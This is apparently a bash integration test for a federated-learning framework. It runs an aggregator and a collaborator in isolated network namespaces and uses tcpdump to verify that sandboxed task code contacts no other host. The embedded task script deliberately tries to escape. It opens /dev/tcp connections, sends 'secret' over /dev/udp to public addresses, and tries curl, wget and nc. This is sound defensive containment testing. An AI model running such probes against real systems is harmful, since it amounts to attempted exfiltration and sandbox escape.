#!/usr/bin/env bash
# A whole run, captured: the aggregator and a collaborator live in network
# namespaces of their own, with a wire between them. The task code tries to talk
# to everybody. Every packet that leaves the collaborator's host goes to the
# aggregator's address and port; there is no name server, and nobody asks one.
# Needs root, ip and tcpdump.
set -euo pipefail
cd "$(dirname "$0")/../.."
. scripts/lib.sh
for need in ip tcpdump; do
  if [ "$(id -u)" != 0 ] || ! command -v "$need" >/dev/null || ! unshare -n true 2>/dev/null; then
    echo "capture.sh: skipped: it needs root, network namespaces, ip and tcpdump"
    [ "${CI:-}" != true ] || exit 1
    exit 0
  fi
done

work=$(mktemp -d)
site=fxsite$$ hub=fxhub$$
pids=()
finish() {
  local p
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  wait 2>/dev/null || true
  ip netns delete "$site" 2>/dev/null || true
  ip netns delete "$hub" 2>/dev/null || true
  rm -rf "$work" "/etc/netns/$site"
}
trap finish EXIT
trap 'exit 130' INT TERM

build "$work/bin"
PATH=$work/bin:$PATH
cd "$work"
port=50123 address=10.231.77.1

# Two hosts, one wire. The site finds the aggregator by its hosts file alone.
ip netns add "$hub"
ip netns add "$site"
ip link add wire netns "$hub" type veth peer name wire netns "$site"
for ns in "$hub" "$site"; do
  # The kernel's own IPv6 announcements are none of ours.
  # shellcheck disable=SC2016 # for the inner shell
  ip netns exec "$ns" sh -c 'for f in /proc/sys/net/ipv6/conf/*/disable_ipv6; do echo 1 >"$f"; done' 2>/dev/null || true
  ip -n "$ns" link set lo up
  ip -n "$ns" link set wire up
done
ip -n "$hub" address add "$address/24" dev wire
ip -n "$site" address add 10.231.77.2/24 dev wire
ip -n "$site" route add default via "$address"
mkdir -p "/etc/netns/$site"
printf '127.0.0.1 localhost\n%s agg.example.org\n' "$address" >"/etc/netns/$site/hosts"
printf 'nameserver %s\n' "$address" >"/etc/netns/$site/resolv.conf"

# A federation whose task code is a shell program that wants to phone home. What
# it reached is a metric of the plan: the number must be 0.
printf 'only for this test\n' >passphrase
fxctl ca init --name fed.example.org --passphrase-file passphrase --quiet >/dev/null
issue aggregator agg.example.org
issue collaborator hospital-a
issue publisher alice
issue reviewer bob
fxctl workspace create ward --template no-op --agg-addr agg.example.org --agg-port $port --rounds 3 --collaborator hospital-a --quiet >/dev/null
mkdir ward/src
cat >ward/src/runner.sh <<'EOF'
#!/bin/bash
# Answers every request; a task tries all the ways out that a shell has.
reached() {
  local n=0 host
  for host in 10.231.77.1 8.8.8.8 127.0.0.1 agg.example.org example.com; do
    (exec 3<>"/dev/tcp/$host/50123") 2>/dev/null && n=$((n + 1))
    (echo secret >"/dev/udp/$host/53") 2>/dev/null && n=$((n + 1))
    getent ahosts "$host" 2>/dev/null | grep -qv '^127' && [ "$host" = example.com ] && n=$((n + 1))
  done
  for tool in curl wget ping nc; do
    command -v $tool >/dev/null && timeout 2 $tool 10.231.77.1 >/dev/null 2>&1 </dev/null && n=$((n + 1))
  done
  echo "reached $n" >&2
  echo $n
}
while read -r line; do
  id=$(printf '%s' "$line" | sed 's/.*"id":\([0-9]*\).*/\1/')
  case $line in
    *'"op":"hello"'*) echo "{\"id\":$id,\"ok\":true,\"protocol\":\"fx-task/1\",\"name\":\"phone home\"}" ;;
    *'"op":"init"'*) echo "{\"id\":$id,\"ok\":true,\"tensors\":false}" ;;
    *'"op":"run"'*) echo "{\"id\":$id,\"ok\":true,\"metrics\":{\"reached\":$(reached)},\"data_size\":1,\"tensors\":false}" ;;
    *'"op":"bye"'*) echo "{\"id\":$id,\"ok\":true}"; exit 0 ;;
  esac
done
EOF
chmod +x ward/src/runner.sh
sed -i 's/fx\.builtin\.NoData/fx.data.Folder/; s/- ok$/- reached/; s/fx\.builtin\.NoOp/fx.process.TaskRunner/' ward/plan/plan.yaml
sed -i '/fx\.process\.TaskRunner/ { n; s|{}|{command: [src/runner.sh]}|; }' ward/plan/plan.yaml
rm -f ward/save/*.pbuf
fxrun init ward --quiet >/dev/null
fxctl bundle create ward -o fed.fxb --as alice --quiet >/dev/null
fxctl bundle approve fed.fxb --as bob --yes --quiet >/dev/null

inside() { # NAMESPACE COMMAND...
  local ns=$1
  shift
  ip netns exec "$ns" "$@"
}
inside "$site" tcpdump -i any -nn -U -w site.pcap 2>tcpdump.log &
tcpdump=$!
pids+=("$tcpdump")
until grep -q listening tcpdump.log; do kill -0 $tcpdump; sleep 0.1; done
inside "$hub" fxrun aggregator --bundle fed.fxb --state agg --linger 1s --json >agg.json 2>agg.log &
pids+=($!)
aggregator=$!
until grep -q listening agg.log; do kill -0 $aggregator || { cat agg.log >&2; exit 1; }; sleep 0.1; done
inside "$site" fxrun collaborator --bundle fed.fxb --name hospital-a --state hospital-a --poll-interval 100ms --json >a.json 2>a.log || { cat a.log >&2; exit 1; }
wait $aggregator
kill $tcpdump
wait $tcpdump 2>/dev/null || true
pids=()

# ARP is the wire's own; everything else must be TCP between the site and the
# aggregator's port, opened by the site.
tcpdump -nn -r site.pcap 'not arp' >packets.txt 2>/dev/null
total=$(grep -c '' packets.txt)
other=$(grep -vcE " IP (10\.231\.77\.2\.[0-9]+ > 10\.231\.77\.1\.$port|10\.231\.77\.1\.$port > 10\.231\.77\.2\.[0-9]+): Flags" packets.txt || true)
opened_by_hub=$(grep -cE " IP 10\.231\.77\.1\.[0-9]+ > .*Flags \[S\]," packets.txt || true)
requests=$(json_field requests <a.json)
if [ "$other" != 0 ] || [ "$opened_by_hub" != 0 ] || [ "$total" -lt $((requests * 10)) ]; then
  grep -vE "10\.231\.77\.1\.$port" packets.txt | head -n 20 >&2
  echo "capture.sh: error: $total packets, $other of them not between the site and $address:$port, $opened_by_hub connections opened by the aggregator" >&2
  exit 1
fi
if [ "$(grep -c '"msg":"task reported".*reached=0.0000' a.log)" != 3 ]; then
  cat a.log >&2
  echo "capture.sh: error: the task code got out of its box, or did not run" >&2
  exit 1
fi
echo "capture.sh: $total packets for $requests requests, all of them between the site and $address:$port; the task code reached nobody"
